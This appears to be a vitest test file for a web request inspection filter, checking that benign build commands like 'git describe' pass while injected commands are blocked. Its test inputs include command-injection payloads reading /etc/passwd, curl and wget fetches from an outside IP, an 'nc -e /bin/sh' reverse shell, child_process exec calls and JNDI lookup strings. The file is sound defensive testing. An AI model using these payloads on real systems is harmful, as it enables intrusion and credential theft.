import { describe, expect, test } from 'vitest';
import { policyOf } from '../../../../../benchmarks/traffic/policies.ts';
import { inspect } from '../../index.ts';
import { encodeLatin1, post, query } from '../../testing/requests.ts';

const policy = policyOf('medium');
const form = (value: string, name = 'q') =>
  post('application/x-www-form-urlencoded', `${encodeLatin1(name)}=${encodeLatin1(value)}`);
const json = (value: string, name = 'q') => post('application/json', JSON.stringify({ [name]: value }));

describe('what tells of the project alone', () => {
  const inScript = (text: string) => [json(text, 'run'), json(text, 'comment'), form(text, 'comment')];
  const told = [
    'export V=$(git describe --tags)',
    'echo "sha=$(git rev-parse HEAD)" >> $OUT',
    `echo $(node -p "require('./package.json').version")`,
    'cp a "$(dirname "$0")/b"',
    'make X=$(cat VERSION)',
  ];

  test('passes where command lines are shown', () => {
    const blamed = told.filter((text) =>
      inScript(text).some((one) => inspect(policy, one).decision === 'block'),
    );
    expect(blamed).toEqual([]);
  });

  test('covers no other command, before it, behind it or inside', () => {
    const texts = told.flatMap((text) => [
      `${text}; x=$(cat /etc/passwd)`,
      `x$(curl http://203.0.113.9/x) ${text}`,
      text.replace('$(', '$(cat /etc/passwd;'),
      `${text} $(nc -e /bin/sh 203.0.113.9 1)`,
    ]);
    const bent = [
      'x $(git log --output=/var/www/x.php)',
      'x $(git -c core.pager=sh log)',
      'x $(git log|sh)',
      'x $(cat VERSION /etc/passwd)',
      'x $(cat ../VERSION;whoami)',
      `node -e "require('child_process').exec('id')"`,
      `x $(node -p "require('./package.json').version;require('child_process').execSync('id')")`,
      'Use x | wget http://203.0.113.9/x',
      'x $(ls *.x;whoami)',
    ];
    const passed = [...texts, ...bent].filter((text) =>
      inScript(text).some((one) => inspect(policy, one).decision === 'pass'),
    );
    expect(passed).toEqual([]);
  });

  test('nor does it where a value is meant', () => {
    const texts = told.filter((text) => text.includes('$('));
    const values = texts.flatMap((text) => [query(text), form(text), json(text, 'host')]);
    expect(values.filter((one) => inspect(policy, one).decision === 'pass')).toEqual([]);
  });

  test('a lookup that is left out covers none that is written', () => {
    const lookups = [
      '...${jndi:ldap://x.example/a}',
      '${jndi:...}${jndi:dns://x.example}',
      '${jndi:...ldap://x.example/a}',
    ];
    expect(lookups.filter((text) => inspect(policy, query(text)).decision === 'pass')).toEqual([]);
    expect(inspect(policy, query('${jndi:...} is the form')).decision).toBe('pass');
  });
});

test('a loop written over several lines is a script, on one line it is none', () => {
  const script = '#!/usr/bin/env bash\nset -e\nfor i in 1 2 3; do\n  echo "$i"\ndone\n';
  expect(inspect(policy, json(script, 'snippet')).decision).toBe('pass');
  const line = 'x; for i in 1 2 3; do id; done';
  expect(inspect(policy, json(line, 'snippet')).decision).toBe('block');
});
